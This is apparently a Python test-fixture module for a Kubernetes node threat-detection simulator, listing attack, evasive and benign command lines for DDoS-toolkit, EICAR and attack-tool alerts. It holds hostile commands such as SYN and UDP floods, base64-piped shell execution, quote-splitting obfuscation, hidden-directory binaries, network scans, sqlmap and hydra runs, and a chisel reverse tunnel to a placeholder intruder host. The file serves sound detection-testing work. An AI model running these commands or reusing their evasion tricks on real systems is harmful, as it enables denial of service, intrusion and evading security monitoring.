"""Tools of attackers, toolkits for denial of service, the test alert, exploits on command lines."""

from __future__ import annotations

from simulation.attacks.register import straight
from simulation.attacks.scene import Scene
from simulation.attacks.shells import Started
from simulation.attacks.tables import Place, encoded, line, run, table
from simulation.schedule import Life

DDOS = "K8S.NODE_KnownLinuxDDoSToolkit"
EICAR = "K8S.NODE_EICAR"
TOOL = "K8S.NODE_KnownLinuxAttackTool"
FORWARDING = "K8S.NODE_SuspectPortForwarding"
RUNNER = ("ci", "gitlab-runner")
TEST_FILE = "asc_alerttest_662jfi039n"
TEST_TEXT = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCAN = "/usr/local/bin/nmap -Pn -p 2379,10250 10.42.0.0/24"

table(
    DDOS,
    straight=[
        run("hping3 --flood -S -p 443 203.0.113.80", at=Place.EXEC),
        run("/usr/bin/bsd-port/getty", at=Place.HOST),
        run("/usr/bin/dpkgd/.sshd", at=Place.HOST),
        run("python3 hulk.py http://203.0.113.80/", at=Place.EXEC, cwd="/opt/h"),
        run("slowloris -p 443 -s 900 --https 203.0.113.80", at=Place.EXEC),
    ],
    careful=[
        run("/usr/lib/.h/hp --flood -S --rand-source -p 443 203.0.113.80", at=Place.EXEC),
        line(
            "hp''ing3 --udp -p 53 --fl\\ood 203.0.113.80",
            runs=["hping3 --udp -p 53 --flood 203.0.113.80"],
            at=Place.EXEC,
        ),
        run(
            "nice -n 5 mausezahn eth0 -c 0 -d 0 -A rand -B 203.0.113.80 -t tcp flags=syn,dp=443",
            runs=["mausezahn eth0 -c 0 -d 0 -A rand -B 203.0.113.80 -t tcp flags=syn,dp=443"],
            at=Place.HOST,
        ),
        run("python3 -u /opt/.w/goldeneye.py https://203.0.113.80/ -w 40 -s 900 -m random", at=Place.EXEC),
        line(
            f"echo {encoded('t50 203.0.113.80 --flood --turbo -S --dport 443')} | base64 -d | sh",
            runs=["base64 -d", Started("sh", ["t50 203.0.113.80 --flood --turbo -S --dport 443"])],
            at=Place.EXEC,
        ),
    ],
    quiet=[
        run("ping -c 4 10.42.0.1", at=Place.EXEC),
        run("ab -n 2000 -c 20 http://web.shop.svc:8080/", at=Place.EXEC),
        run("k6 run --vus 50 --duration 5m /scripts/checkout.js", at=Place.ENTRY, workload=RUNNER),
        run("hping3 -S -c 5 -p 443 10.42.0.9", at=Place.HOST),
        run("wrk -t4 -c64 -d30s http://web.shop.svc:8080/", at=Place.EXEC),
    ],
)


@straight(EICAR)
def test_alert(scene: Scene) -> Life:
    """Somebody makes the documented test file, a copy of echo, and runs it to see whether alerts arrive."""
    shell = scene.exec_shell(scene.person(admin=True), scene.victim())
    yield scene.pause()
    shell.run(f"cp /bin/echo ./{TEST_FILE}")
    yield scene.pause(2, 9)
    shell.run(f"./{TEST_FILE} testing eicar pipe", EICAR)


table(
    EICAR,
    straight=[
        run(f"/root/{TEST_FILE} testing eicar pipe", at=Place.HOST),
        line(f"echo '{TEST_TEXT}' > /opt/eicar.com", runs=[], at=Place.EXEC),
    ],
    careful=[
        line(
            f"cp /bin/ec\\ho /opt/t/{TEST_FILE} && timeout 5 /opt/t/../t/{TEST_FILE} x",
            runs=[
                f"cp /bin/echo /opt/t/{TEST_FILE}",
                Started(f"timeout 5 /opt/t/../t/{TEST_FILE} x", [f"/opt/t/../t/{TEST_FILE} x"]),
            ],
            at=Place.EXEC,
        ),
        run(("python3", "-c", f"open('/opt/e.txt','w').write(r'{TEST_TEXT}')"), at=Place.EXEC),
        line(
            f"printf '%s' '{TEST_TEXT}' | tee /opt/e.com",
            runs=["tee /opt/e.com"],
            at=Place.HOST,
        ),
    ],
    quiet=[
        run("grep -rn EICAR-STANDARD-ANTIVIRUS-TEST-FILE /builds/app/tests", at=Place.ENTRY, workload=RUNNER),
        run(f"cp /bin/echo /opt/{TEST_FILE}", at=Place.EXEC),
        run(f"mv /opt/echo /opt/{TEST_FILE}", at=Place.HOST),
    ],
)

table(
    TOOL,
    straight=[
        run("nmap -sS -p- 10.42.0.0/24", at=Place.EXEC),
        run("/opt/m/masscan -p443,10250 10.0.0.0/8 --rate 5000", at=Place.EXEC),
        run("python3 sqlmap.py -u http://web.shop.svc:8080/?id=1 --batch", at=Place.EXEC, cwd="/opt/s"),
        run("hydra -l root -P /opt/w.txt ssh://10.42.0.9", at=Place.HOST),
        run("bash /opt/linpeas.sh -a"),
    ],
    careful=[
        run("/opt/.s/dbus -sS -Pn -T4 -p 22,2379,6443,10250 10.42.0.0/24", at=Place.EXEC),
        line(
            'n=nm; sudo -n "${n}ap" -sV 10.42.0.9',
            runs=[Started("sudo -n nmap -sV 10.42.0.9", ["nmap -sV 10.42.0.9"])],
            at=Place.HOST,
        ),
        line(
            "find /etc -maxdepth 0 -exec chi''sel client INTRUDER:8080 R:socks \\;",
            runs=[
                Started(
                    "find /etc -maxdepth 0 -exec chisel client INTRUDER:8080 R:socks ';'",
                    ["chisel client INTRUDER:8080 R:socks"],
                )
            ],
            at=Place.EXEC,
            also=(FORWARDING,),
        ),
        line(f"echo {encoded(SCAN)} | base64 -d | sh", runs=["base64 -d", Started("sh", [SCAN])], at=Place.EXEC),
        run("/opt/.c/cdk evaluate --full", at=Place.EXEC),
        run("perl /usr/share/nikto/program/nikto.pl -host web.shop.svc -port 8080", at=Place.EXEC),
        run(
            "env -i timeout 900 /lib/ld-linux-x86-64.so.2 /opt/x/masscan 10.42.0.0/16 -p6379",
            runs=[
                Started(
                    "timeout 900 /lib/ld-linux-x86-64.so.2 /opt/x/masscan 10.42.0.0/16 -p6379",
                    ["/lib/ld-linux-x86-64.so.2 /opt/x/masscan 10.42.0.0/16 -p6379"],
                )
            ],
            at=Place.EXEC,
        ),
    ],
    quiet=[
        run("apt-get install -y nmap", at=Place.HOST),
        run("grep -c nmap /var/log/dpkg.log", at=Place.HOST),
        run("cat /srv/docs/nmap.txt", at=Place.EXEC),
        run(
            "node node_modules/.bin/cdk deploy --require-approval never",
            at=Place.ENTRY,
            workload=RUNNER,
            cwd="/builds/infra",
        ),
        run("dig +short web.shop.svc.cluster.local", at=Place.EXEC),
        run("tcpdump -i eth0 -c 200 port 8080", at=Place.HOST),
    ],
)
